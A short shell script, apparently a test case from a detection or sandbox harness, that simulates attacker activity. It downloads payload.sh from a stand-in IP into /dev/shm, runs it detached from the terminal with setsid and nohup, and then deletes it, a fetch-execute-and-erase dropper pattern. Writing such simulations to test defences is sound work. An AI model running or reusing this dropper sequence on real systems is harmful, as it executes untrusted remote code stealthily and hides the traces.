#!/bin/sh
. /opt/case/case.sh

id; uptime
curl -sO --output-dir /dev/shm http://203.0.113.10/payload.sh
trap '' HUP
setsid nohup sh -c 'sleep 1; sh /dev/shm/payload.sh; rm /dev/shm/payload.sh' >/dev/null 2>&1 </dev/null &
wait_for /tmp/reached
took_place
